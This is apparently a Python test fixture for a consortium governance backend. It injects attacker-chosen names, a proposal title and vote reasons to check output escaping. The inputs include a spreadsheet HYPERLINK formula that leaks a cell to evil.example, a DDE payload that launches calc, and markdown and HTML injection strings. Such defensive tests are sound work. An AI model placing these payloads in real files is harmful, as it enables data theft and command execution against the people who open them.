"""A consortium in which names, a title and a reason are what an attacker would choose."""

from backend.documents.proposal_text import ProposalDocument, Text
from backend.documents.reasons import BallotName, Reason
from backend.domain import events as e
from backend.domain.descriptions import compose_description
from backend.domain.members import MemberClass
from backend.domain.values import MemberId, ProposalId, Timepoint
from tests.backend import story as s

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Zavod")'
BREAKS = 'One\n=1+1,"two"\n;@SUM(A1)\ttab'
NAME = f"{FORMULA}\r\n# Heading | [link](http://evil.example) `code` <b>&amp;"
LONG = "=" + "č" * 3_999
PROPOSAL = ProposalId(6661)


def evil_story(documents):
    """Tell the usual story, and then what the attacker adds."""
    story = s.whole_story(documents)
    s._admit(story, s.LAST, MemberId(7), "IT-EVIL", NAME, "IT", MemberClass.PARTNER)
    text = ProposalDocument("en", "", {"en": Text("=cmd|' /C calc'!A0", "Summary", "Body")})
    description = compose_description(documents.put_proposal(text), s.wallet_of(1))
    opens, closes = Timepoint(s.LAST + 1), Timepoint(s.LAST + s.DAY)
    governor = s.GOVERNORS[s.ASSEMBLY]
    created = e.ProposalCreated(PROPOSAL, s.wallet_of(1), (s.RECORDS,), (0,), ("0x",), opens, closes, description)
    number = story.numbers[s.ASSEMBLY] + 1
    filed = e.ProposalFiled(PROPOSAL, number, s.POLICY, s.GA_2_3_LATER, MemberId(1), False, None, s.PartyEffect.NONE)
    story.tell(s.LAST, governor, created, filed)
    for member, words in ((1, BREAKS), (3, LONG)):
        reason = Reason(BallotName(governor, PROPOSAL, MemberId(member)), "en", words)
        story.vote(s.LAST, s.ASSEMBLY, PROPOSAL, (member, s.FOR), reason=documents.put_reason(reason))
    return story
